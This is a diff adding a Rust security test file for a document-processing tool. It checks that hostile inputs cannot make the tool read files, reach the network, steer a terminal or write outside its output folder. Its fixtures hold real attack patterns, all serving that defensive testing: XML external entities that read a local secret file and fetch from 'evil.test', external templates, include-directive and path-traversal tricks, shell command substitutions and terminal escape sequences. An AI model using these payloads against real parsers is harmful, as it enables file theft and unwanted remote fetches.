@@ -1,0 +1,362 @@
+//! What a hostile input may not do: reach the network, run or read something else, steer a terminal,
+//! write outside of a folder. SECURITY.md has the threats.
+#![cfg(target_os = "linux")]
+#![allow(clippy::unwrap_used, reason = "a test may stop at what it cannot do")]
+
+mod util;
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use util::{Folder, command, shell, works_here};
+
+/// A zip archive with these files.
+fn zip(files: &[(&str, &str)]) -> Vec<u8> {
+    use std::io::Write;
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, content) in files {
+        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
+        zip.write_all(content.as_bytes()).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+/// A folder of documents that name `secret.txt` beside it, and a host, in all the ways in which their
+/// formats have what is elsewhere put in.
+fn tempting(name: &str) -> Folder {
+    let folder = Folder::new(name);
+    let secret = folder.file("secret.txt", "SECRET words that nobody may see.");
+    let entities = format!(
+        "<!DOCTYPE d [<!ENTITY x SYSTEM \"file://{secret}\"><!ENTITY % y SYSTEM \"http://evil.test/y\"> %y;]>"
+    );
+    let body = "<body><p><r><t>The ferry sails again. &x;</t></r></p></body>";
+    let relations = "<Relationships><Relationship Id=\"r1\" Type=\"attachedTemplate\" \
+        Target=\"http://evil.test/t.dotm\" TargetMode=\"External\"/></Relationships>";
+    let odt = "<document-content><body><text><p>The ferry sails again. &x;</p>\
+        <section><section-source href=\"../secret.txt\"/></section></text></body></document-content>";
+    let container = "<container><rootfiles><rootfile full-path=\"a.opf\"/>\
+        <rootfile full-path=\"../../secret.txt\"/></rootfiles></container>";
+    let opf = "<package><manifest><item id=\"a\" href=\"../../secret.txt\" media-type=\"application/xhtml+xml\"/>\
+        <item id=\"b\" href=\"http://evil.test/b.xhtml\" media-type=\"application/xhtml+xml\"/>\
+        <item id=\"c\" href=\"c.xhtml\" media-type=\"application/xhtml+xml\"/></manifest>\
+        <spine><itemref idref=\"a\"/><itemref idref=\"b\"/><itemref idref=\"c\"/></spine></package>";
+    let page = format!(
+        "{entities}<html><head><base href=\"http://evil.test/\"><link rel=stylesheet href=a.css>\
+         <meta http-equiv=refresh content=\"0; url=http://evil.test\"><script src=a.js></script></head>\
+         <body><iframe src=\"file://{secret}\"></iframe><img src=\"http://evil.test/a.png\">\
+         <object data=\"{secret}\"></object><p>The ferry sails again. &x;</p></body></html>"
+    );
+    let mail = "From: a@evil.test\nTo: b@evil.test\nSubject: Tea\nMIME-Version: 1.0\n\
+        Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n\
+        The ferry sails again.\n--b\nContent-Type: message/external-body; access-type=local-file; \
+        name=\"secret.txt\"\n\nContent-Type: text/plain\n\n--b--\n";
+    folder.file("in/html.html", &page);
+    folder.file(
+        "in/docx.docx",
+        zip(&[
+            ("word/document.xml", &format!("{entities}<document>{body}</document>")),
+            ("word/_rels/document.xml.rels", relations),
+        ]),
+    );
+    folder.file("in/odt.odt", zip(&[("content.xml", &format!("{entities}{odt}"))]));
+    folder.file(
+        "in/epub.epub",
+        zip(&[
+            ("META-INF/container.xml", container),
+            ("a.opf", opf),
+            (
+                "c.xhtml",
+                &format!("{entities}<html><body><p>The ferry sails again.</p></body></html>"),
+            ),
+        ]),
+    );
+    folder.file("in/eml.eml", mail);
+    folder.file("in/rst.rst", format!("The ferry sails again.\n\n.. include:: {secret}\n\n.. raw:: html\n   :url: http://evil.test\n"));
+    folder.file("in/adoc.adoc", format!("The ferry sails again.\n\ninclude::{secret}[]\n"));
+    folder.file("in/org.org", format!("The ferry sails again.\n\n#+INCLUDE: \"{secret}\"\n"));
+    folder.file(
+        "in/md.md",
+        format!(
+            "The ferry sails again. ![x](http://evil.test/x.png)\n\n<iframe src=\"{secret}\">\n"
+        ),
+    );
+    folder.file(
+        "in/txt.txt",
+        format!("The ferry sails again. `cat {secret}` $(cat {secret}) file://{secret}\n"),
+    );
+    folder.file(
+        "in/jsonl.jsonl",
+        format!("{{\"text\": \"The ferry sails again.\", \"url\": \"file://{secret}\"}}\n"),
+    );
+    symlink("../secret.txt", folder.path().join("in/link.txt")).unwrap();
+    symlink("..", folder.path().join("in/up")).unwrap();
+    folder
+}
+
+/// What each of those documents has to say.
+const SAID: &str = "The ferry sails again.";
+
+#[test]
+fn nothing_that_a_document_names_is_read() {
+    let folder = tempting("security-read");
+    let ran = folder.run(&["-n", "all", "in"], "");
+    assert_eq!((ran.err.as_str(), ran.status), ("", 0));
+    assert_eq!(ran.out.matches("==> in/").count(), 11, "{}", ran.out);
+    assert_eq!(ran.out.matches(SAID).count(), 11, "{}", ran.out);
+    assert!(!ran.out.contains("SECRET"), "{}", ran.out);
+    let ran = folder.run(&["-n", "all", "-L", "in"], "");
+    assert!(ran.out.contains("==> in/link.txt <==\nSECRET"), "links are read when asked for");
+}
+
+/// Without a network interface, and with every system call for one, and for other programs, watched.
+#[test]
+fn no_connection_is_tried_and_no_program_is_run() {
+    let folder = tempting("security-network");
+    let args = ["-n", "all", "in", "--progress", "always", "-k", "--explain"];
+    let expected = folder.run(&args, "");
+    let line = format!("$epitome {}", args.join(" "));
+    if works_here("unshare --net --map-root-user true") {
+        let ran = folder.shell(&format!("exec unshare --net --map-root-user {line}"), "");
+        assert_eq!((ran.out, ran.status), (expected.out.clone(), 0));
+    }
+    if works_here("strace -o /dev/null true") {
+        let calls = "%network,execve,execveat,fork,vfork";
+        for args in [line.clone(), format!("{line} --merge"), format!("{line} --output-dir out")] {
+            let ran = folder.shell(&format!("strace -f -qq -o calls -e trace={calls} {args}"), "");
+            assert_eq!(ran.status, 0, "{}", ran.err);
+            let calls = folder.read("calls").unwrap();
+            let calls: Vec<&str> = calls.lines().filter(|line| line.contains('(')).collect();
+            assert!(calls.len() == 1 && calls[0].contains("execve("), "{calls:?}");
+        }
+        let files = format!("strace -f -qq -o files -e trace=%file {line}");
+        assert_eq!(folder.shell(&files, "").status, 0);
+        let files = folder.read("files").unwrap();
+        assert!(files.contains("in/txt.txt"), "it was watched");
+        assert!(!files.lines().any(|line| line.contains("open") && line.contains("secret.txt")));
+    }
+}
+
+// Terminals
+
+/// Characters that steer a terminal, or turn the direction of what follows.
+fn steers(c: char) -> bool {
+    (c.is_control() && c != '\n')
+        || "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}".contains(c)
+}
+
+/// A text, and a name, that have all of them.
+const EVIL: &str =
+    "a\x1b[31mb\x1b]0;c\x07d\u{9b}31me\u{85}f\x7fg\u{202e}h\u{2067}i\u{2069}j\rk\x08l\tm\x0cn";
+
+#[test]
+fn no_output_steers_a_terminal() {
+    let folder = Folder::new("security-terminal");
+    let text = format!(
+        "{EVIL} title\n\nThe {EVIL} ferry sails again {EVIL}. {EVIL} rains on {EVIL}, and {EVIL} snows. The {EVIL} sails.\n"
+    );
+    let record = serde_json::json!({"id": EVIL, "title": EVIL, "text": text});
+    folder.file(&format!("in/0{EVIL}.txt"), &text);
+    folder.file(&format!("in/1{EVIL}.md"), format!("# {text}"));
+    folder.file(
+        &format!("in/2{EVIL}.html"),
+        format!("<title>{EVIL}</title><p>{text}&#27;[31m&#x9b;&#x202e;"),
+    );
+    folder.file(&format!("in/3{EVIL}.jsonl"), format!("{record}\n{{\"{EVIL}\": \n"));
+    folder.file(&format!("in/4{EVIL}.docx"), "no archive");
+    folder.file(&format!("in/5{EVIL}.png"), "no image");
+    symlink(EVIL, folder.path().join(format!("in/{EVIL}"))).unwrap();
+    let missing = format!("missing-{EVIL}");
+    let base = ["in", &missing, "-v", "-n", "all", "-k", "-q", EVIL, "--title", EVIL];
+    let formats: [&[&str]; 3] = [&[], &["--json"], &["--explain"]];
+    for format in formats {
+        for more in [&[][..], &["--merge"], &["--output-dir", "out", "--force"]] {
+            let args = [&base[..], format, more].concat();
+            let ran = folder.run(&args, "");
+            assert_eq!(ran.status, 1, "{args:?}: {}", ran.err);
+            assert!(!ran.out.contains(steers), "{args:?}: {:?}", ran.out);
+            // Our own isolates stand around what is read from right to left, and there is none here.
+            assert!(!ran.err.contains(steers), "{args:?}: {:?}", ran.err);
+            assert!(ran.err.lines().count() > 4, "{}", ran.err);
+            for file in folder.files("out") {
+                let content = folder.read(&format!("out/{file}")).unwrap();
+                assert!(!content.contains(steers), "{args:?}: {content:?}");
+            }
+        }
+    }
+    let json = folder.run(&["in", "--json", "--input-format", "jsonl", "-n", "all"], "").out;
+    let found: serde_json::Value =
+        serde_json::from_str(json.lines().find(|line| line.starts_with("{\"id\"")).unwrap())
+            .unwrap();
+    assert_eq!(
+        (&found["id"], found["title"].as_str().unwrap().contains('\u{202e}')),
+        (&EVIL.into(), true)
+    );
+}
+
+/// A shell may put the name of a file in place of `*`, and that may look like an option.
+#[test]
+fn wrong_usage_does_not_repeat_what_steers() {
+    let options = [
+        "--",
+        "--language=",
+        "--method=",
+        "--stopwords=",
+        "--encoding=",
+        "-n",
+        "-t",
+        "--files-from=",
+    ];
+    for option in options {
+        let arg = format!("{option}{EVIL}");
+        let out = command(&[&arg]).output().unwrap();
+        let message = String::from_utf8(out.stderr).unwrap();
+        assert_eq!(out.status.code(), Some(2), "{option}: {message:?}");
+        assert!(!message.is_empty() && !message.contains(steers), "{option}: {message:?}");
+    }
+    // On a terminal, where messages have colours.
+    if works_here("script -qec true /dev/null") {
+        let folder = Folder::new("security-usage");
+        folder.file("arg", format!("--{EVIL}"));
+        let ran = folder.shell("exec script -qec '$epitome \"$(cat arg)\"' /dev/null", "");
+        assert!(ran.out.contains("unexpected argument"), "{:?}", ran.out);
+        assert!(!ran.out.replace("\r\n", "\n").contains(steers), "{:?}", ran.out);
+    }
+}
+
+// The output folder
+
+/// All files in a folder but those in `out`.
+fn outside(folder: &Folder) -> Vec<(String, Vec<u8>)> {
+    let is_file = |name: &String| folder.path().join(name).is_file();
+    let names = folder.files("").into_iter().filter(is_file);
+    let names = names.filter(|name| !name.starts_with("out/"));
+    names.map(|name| (name.clone(), std::fs::read(folder.path().join(name)).unwrap())).collect()
+}
+
+#[test]
+fn whatever_inputs_are_called_nothing_is_written_outside_of_the_folder() {
+    let folder = Folder::new("security-outside");
+    let names = [
+        "a.txt",
+        "..b.txt",
+        "...",
+        "c..txt",
+        "-n.txt",
+        " .txt",
+        "x/../d.txt",
+        "~/e.txt",
+        "f\\..\\g.txt",
+        "h:i.txt",
+        "\n.txt",
+        "x/.hidden/k.txt",
+        "CON.txt",
+    ];
+    folder.file("x/placeholder.txt", "Tea is hot.");
+    for name in names {
+        folder.file(&format!("in/{name}").replace("x/../", ""), "Tea is hot.");
+    }
+    folder.file("up/l.txt", "Tea is hot.");
+    symlink("../up", folder.path().join("in/link")).unwrap();
+    let before = outside(&folder);
+    let absolute = folder.path().join("up/l.txt");
+    let list = format!("in/../up/../up/l.txt\0{}\0./x/placeholder.txt\0", absolute.display());
+    let runs: [(&[&str], &str); 4] = [
+        (&["in", "--hidden", "--output-dir", "out"], ""),
+        (&["in", "-L", "--hidden", "--output-dir", "out/2"], ""),
+        (&["--files-from", "-", "-0", "--output-dir", "out/3", "--force"], &list),
+        (&["in/../in", "--glob", "*", "--output-dir", "out/4/../5"], ""),
+    ];
+    for (args, input) in runs {
+        let ran = folder.run(args, input);
+        // Two names of one file in the third: nothing is done then.
+        let expected = if args[0] == "--files-from" { 2 } else { 0 };
+        assert_eq!(ran.status, expected, "{args:?}: {}", ran.err);
+        assert!(outside(&folder) == before, "{args:?}");
+    }
+    assert!(folder.files("out").len() > 20);
+}
+
+#[test]
+fn what_lies_in_the_way_is_not_written_through() {
+    let folder = Folder::new("security-links");
+    folder.file("in/a.txt", "Tea is hot.");
+    folder.file("in/x/b.txt", "Tea is hot.");
+    folder.file("precious.txt", "Precious.");
+    std::fs::create_dir(folder.path().join("out")).unwrap();
+    symlink("../precious.txt", folder.path().join("out/a.txt")).unwrap();
+    symlink("..", folder.path().join("out/x")).unwrap();
+    symlink("gone", folder.path().join("out/dangling")).unwrap();
+    for force in [&[][..], &["--force"]] {
+        let ran = folder.run(&[&["in", "--output-dir", "out"][..], force].concat(), "");
+        assert!(
+            ran.err.contains("epitome: out/x: is a link, so nothing is written there\n"),
+            "{}",
+            ran.err
+        );
+        assert_eq!(ran.status, 1);
+        assert_eq!(folder.read("precious.txt").unwrap(), "Precious.");
+        assert!(folder.read("b.txt").is_none());
+    }
+    assert_eq!(folder.read("out/a.txt").unwrap(), "Tea is hot.\n", "in place of the link");
+    assert!(!folder.path().join("out/a.txt").is_symlink());
+}
+
+#[test]
+fn files_have_the_rights_that_the_umask_leaves_them() {
+    let folder = Folder::new("security-modes");
+    folder.file("in/x/a.txt", "Tea is hot.");
+    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
+    for (umask, file, dir) in [("022", 0o644, 0o755), ("077", 0o600, 0o700), ("007", 0o660, 0o770)]
+    {
+        for force in ["", "--force"] {
+            let line = format!("umask {umask}; exec $epitome in --output-dir out-{umask} {force}");
+            assert_eq!(folder.shell(&line, "").status, 0);
+            let out = folder.path().join(format!("out-{umask}"));
+            assert_eq!(mode(&out.join("x/a.txt")), file, "{umask} {force}");
+            assert_eq!(mode(&out.join("x")), dir, "{umask}");
+        }
+    }
+}
+
+/// A file that is not whole yet cannot be opened by another: it has no name at all.
+#[test]
+fn a_file_in_the_making_has_no_name() {
+    let folder = Folder::new("security-temporary");
+    folder.file("in/a.txt", "Tea is hot.");
+    if !works_here("strace -o /dev/null true") {
+        return;
+    }
+    let calls =
+        "strace -f -qq -o calls -e trace=open,openat,linkat,rename,renameat,renameat2,unlink";
+    assert_eq!(folder.shell(&format!("{calls} $epitome in --output-dir out"), "").status, 0);
+    let calls = folder.read("calls").unwrap();
+    let is_written = |call: &&str| call.contains("\"out") && call.contains("O_WRONLY");
+    let written: Vec<&str> = calls.lines().filter(is_written).collect();
+    let is_unnamed = written.iter().all(|call| call.contains("O_TMPFILE"));
+    let is_hidden =
+        written.iter().any(|call| call.contains("/.epitome-") && call.contains("O_EXCL"));
+    assert!(!written.is_empty() && (is_unnamed || is_hidden), "{written:?}");
+}
+
+#[test]
+fn names_that_are_no_text_go_to_the_same_name() {
+    let folder = Folder::new("security-bytes");
+    folder.file("in/x.txt", "Tea is hot.");
+    let name = OsStr::from_bytes(b"in/\xff\xfe.txt");
+    std::fs::write(folder.path().join(name), "Tea is hot.").unwrap();
+    let ran = folder.run(&["in", "--output-dir", "out"], "");
+    assert_eq!((ran.err.as_str(), ran.status), ("", 0));
+    assert!(folder.path().join(OsStr::from_bytes(b"out/\xff\xfe.txt")).exists());
+}
+
+/// No matter how the command is called, that it is not read as a script by what it prints into.
+#[test]
+fn the_environment_decides_nothing_about_what_is_read() {
+    let plain = shell("exec $epitome --json", SAID).out;
+    let line = "LC_ALL=tr_TR.UTF-8 LANG=C HOME=/nonexistent PATH= TMPDIR=/nonexistent \
+        RUST_BACKTRACE=1 CLICOLOR_FORCE=1 exec $epitome --json";
+    assert_eq!(shell(line, SAID).out, plain);
+}
